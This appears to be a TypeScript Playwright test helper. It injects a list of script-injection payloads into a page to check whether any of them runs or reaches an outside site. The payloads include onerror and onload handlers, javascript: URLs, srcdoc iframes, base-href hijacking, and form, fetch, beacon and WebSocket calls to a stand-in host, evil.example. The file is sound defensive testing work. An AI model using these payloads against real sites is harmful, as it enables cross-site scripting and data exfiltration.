import type { Page } from '@playwright/test'

const WAITED_MS = 500

/** Everything by which markup that got into a page could run something or send something away; and whether it did. */
export async function tryScripts(page: Page): Promise<[what: string, ran: boolean][]> {
  const away: string[] = []
  await page.context().route('http://evil.example/**', (route) => {
    away.push(route.request().url())
    return route.fulfill({ contentType: 'text/javascript', body: 'globalThis.ranAway = true' })
  })
  await page.evaluate((waited) => {
    const own = window as unknown as Record<string, boolean>
    const add = (html: string) => document.body.insertAdjacentHTML('beforeend', html)
    add('<img src="data:x" onerror="globalThis.ranHandler = true">')
    add('<svg onload="globalThis.ranSvg = true"></svg>')
    add('<iframe srcdoc="<script>parent.ranFrame = true</script>"></iframe>')
    add('<iframe src="javascript:parent.ranFrame = true"></iframe>')
    add('<object data="data:text/html,<script>parent.ranObject = true</script>"></object>')
    add('<a id="tried" href="javascript:void(globalThis.ranLink = true)">x</a>')
    document.getElementById('tried')!.click()
    add('<script>globalThis.ranParsed = true</script>')
    add('<script src="http://evil.example/script.js"></script>')
    add('<link rel="stylesheet" href="http://evil.example/style.css">')
    add('<img src="http://evil.example/image.png">')
    add('<base href="http://evil.example/">')
    add('<form id="sent" method="post" action="http://evil.example/form" target="_blank"><button></button></form>')
    document.querySelector<HTMLFormElement>('#sent')!.submit()
    void fetch('http://evil.example/fetched').catch(() => undefined)
    navigator.sendBeacon('http://evil.example/beacon')
    try {
      new WebSocket('ws://evil.example/socket').onopen = () => (own.ranSocket = true)
    } catch {
      // Refused at once.
    }
    own.ranBase = document.baseURI.startsWith('http://evil.example')
    return new Promise((done) => setTimeout(done, waited))
  }, WAITED_MS)

  const ran = await page.evaluate(() =>
    Object.keys(window).filter(
      (name) => /^ran[A-Z]/.test(name) && (window as unknown as Record<string, boolean>)[name],
    ),
  )
  const tried = [
    'ranHandler',
    'ranSvg',
    'ranFrame',
    'ranObject',
    'ranLink',
    'ranParsed',
    'ranAway',
    'ranBase',
    'ranSocket',
  ]
  await page.context().unroute('http://evil.example/**')
  return [
    ...tried.map((name): [string, boolean] => [name.slice('ran'.length), ran.includes(name)]),
    ...['script.js', 'style.css', 'image.png', 'form', 'fetched', 'beacon'].map((name): [string, boolean] => [
      `a request to another site (${name})`,
      away.some((url) => url.endsWith(name)),
    ]),
  ]
}
